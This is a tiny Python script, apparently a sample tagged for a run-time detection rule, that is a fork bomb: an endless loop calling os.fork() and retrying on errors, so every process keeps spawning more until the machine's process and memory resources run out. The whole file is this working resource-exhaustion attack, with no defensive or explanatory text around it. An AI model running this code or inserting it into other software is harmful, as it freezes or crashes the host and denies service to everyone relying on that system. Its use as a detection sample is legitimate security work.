"""Forks without end, and so do its forks.

rule: run-time
"""
import os

while True:
    try:
        os.fork()
    except OSError:
        continue
